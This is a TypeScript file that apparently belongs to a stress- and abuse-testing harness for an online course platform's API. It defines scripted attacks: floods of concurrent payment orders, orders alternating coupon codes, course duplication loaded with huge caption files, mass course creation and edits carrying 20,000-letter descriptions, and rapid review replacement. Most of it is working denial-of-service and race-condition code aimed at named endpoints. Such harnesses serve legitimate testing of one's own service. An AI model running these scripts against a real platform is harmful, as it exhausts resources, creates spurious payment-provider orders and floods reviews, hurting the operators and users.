import { type Attack, keepBusy, randomWords, type Target } from '../lib/attack.ts'
import { call, json, makeLecture, must as send, signUp } from '../lib/call.ts'

export const orderFlood: Attack = {
  name: 'orders',
  what: '50 orders of one student for one course at a time; how many did the payment provider get?',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'orders@attacker.example')
    const answer = await call(target.origin, target.from, { path: '/api/course/getpublishedcoures' })
    const courses: { _id: string; price: number }[] = JSON.parse(answer.body.toString())
    const course = courses.find(({ price }) => price > 0)
    if (!course) throw new Error('there is no course for sale')
    const known = new Set<string>()
    return (signal) =>
      keepBusy(50, signal, async () => {
        const ordered = await target.send({
          ...json('/api/payment/create-order', { courseId: course._id }, cookie),
          signal,
        })
        if (ordered?.status !== 200) return
        const { id }: { id: string } = JSON.parse(ordered.body.toString())
        if (!known.has(id)) target.count('provider orders')
        known.add(id)
      })
  },
}

/** Sends from the attacker's address. */
const must = (target: Target, path: string, value: object, cookie: string): Promise<Record<string, unknown>> =>
  send(target.origin, target.from, { path, value, cookie })

export const orderCodes: Attack = {
  name: 'order-codes',
  what: 'one student orders one course, 5 at a time, with two codes in turn; how many orders did the payment provider get?',
  async arm(target) {
    const owner = await signUp(target.origin, target.from, 'codes-owner@attacker.example', 'educator')
    const { courseId } = await makeLecture(target.origin, target.from, owner)
    await must(target, `/api/course/editcourse/${courseId}`, { price: 999, isPublished: true }, owner)
    const codes = ['ONE-HALF', 'A-THIRD'].map((code) => `${code}-${Date.now().toString(36)}`.toUpperCase())
    for (const [at, code] of codes.entries())
      await must(
        target,
        '/api/offers/coupons',
        { code, kind: 'percent', value: 10 + at, minPrice: 0, maxUses: null, maxUsesPerUser: null },
        owner,
      )
    const cookie = await signUp(target.origin, target.from, 'codes@attacker.example')
    const known = new Set<string>()
    let turn = 0
    return (signal) =>
      keepBusy(5, signal, async () => {
        const order = { courseId, coupon: codes[turn++ % codes.length] }
        const ordered = await target.send({ ...json('/api/payment/create-order', order, cookie), signal })
        if (ordered?.status !== 200) return
        const { id }: { id: string } = JSON.parse(ordered.body.toString())
        if (!known.has(id)) target.count('provider orders')
        known.add(id)
      })
  },
}

/** Captions of nearly as many letters as fit, none of which repeat enough to be compressed. */
const longCaptions = (): string => {
  const clock = (seconds: number) => new Date(seconds * 1000).toISOString().slice(11, 23)
  const cues = Array.from(
    { length: 1400 },
    (_, at) => `${clock(at)} --> ${clock(at + 0.9)}\n${randomWords(25).slice(0, 170)}\n`,
  )
  return `WEBVTT\n\n${cues.join('\n')}`.slice(0, 299_000)
}

export const captionCopies: Attack = {
  name: 'caption-copies',
  what: 'one educator copies a draft with 100 captions of 300,000 letters, 2 copies at a time',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'copies@attacker.example', 'educator')
    const { courseId, lectureId } = await makeLecture(target.origin, target.from, cookie)
    const lectures = [lectureId]
    while (lectures.length < 5) {
      const path = `/api/course/createlecture/${courseId}`
      const { lecture } = await must(target, path, { lectureTitle: 'More' }, cookie)
      lectures.push((lecture as { _id: string })._id) // as the call replies
    }
    const languages = 'en hi bn te mr ta ur gu kn ml or pa as ne sa fr de es pt it'.split(' ')
    const text = longCaptions()
    for (const id of lectures)
      for (const language of languages)
        await must(target, `/api/course/captions/${id}`, { language, text, source: 'file' }, cookie)
    return (signal) =>
      keepBusy(2, signal, async () => {
        const path = `/api/course/duplicate/${courseId}`
        const copied = await target.send({ ...json(path, {}, cookie), timeoutMs: 120_000, signal })
        if (copied?.status === 201) target.count('copies')
      })
  },
}

const longText = (): string => randomWords(2500, 7).slice(0, 20_000)
const category = 'Web Development'

export const courseEdits: Attack = {
  name: 'course-edits',
  what: '10 changes at a time of a published course of one educator, each with another description of 20,000 letters',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'edits@attacker.example', 'educator')
    const { _id } = await must(target, '/api/course/create', { title: 'Mine', category }, cookie)
    const path = `/api/course/editcourse/${_id}`
    await must(target, path, { price: 0, isPublished: true }, cookie)
    return (signal) =>
      keepBusy(10, signal, () => target.send({ ...json(path, { description: longText() }, cookie), signal }))
  },
}

export const courseFlood: Attack = {
  name: 'course-flood',
  what: '10 courses at a time of one educator, made and published, each with a description of 20,000 letters',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'courses@attacker.example', 'educator')
    const description = longText()
    return (signal) =>
      keepBusy(10, signal, async () => {
        const made = await target.send({ ...json('/api/course/create', { title: 'Mine', category }, cookie), signal })
        if (made?.status !== 201) return
        const { _id }: { _id: string } = JSON.parse(made.body.toString())
        const change = { description, price: 0, isPublished: true }
        const edited = await target.send({ ...json(`/api/course/editcourse/${_id}`, change, cookie), signal })
        if (edited?.status === 200) target.count('published')
      })
  },
}

export const reviewLoop: Attack = {
  name: 'reviews',
  what: '10 reviews at a time of one student of one free course, each in place of the one before',
  async arm(target) {
    const owner = await signUp(target.origin, target.from, 'reviewed@attacker.example', 'educator')
    const { _id } = await must(target, '/api/course/create', { title: 'Free', category }, owner)
    await must(target, `/api/course/editcourse/${_id}`, { price: 0, isPublished: true }, owner)
    const cookie = await signUp(target.origin, target.from, 'reviewer@attacker.example')
    await must(target, '/api/payment/create-order', { courseId: _id }, cookie)
    let count = 0
    return (signal) =>
      keepBusy(10, signal, () => {
        const review = { courseId: _id, rating: 1 + (++count % 5), comment: randomWords(300) }
        return target.send({ ...json('/api/review/givereview', review, cookie), signal })
      })
  },
}
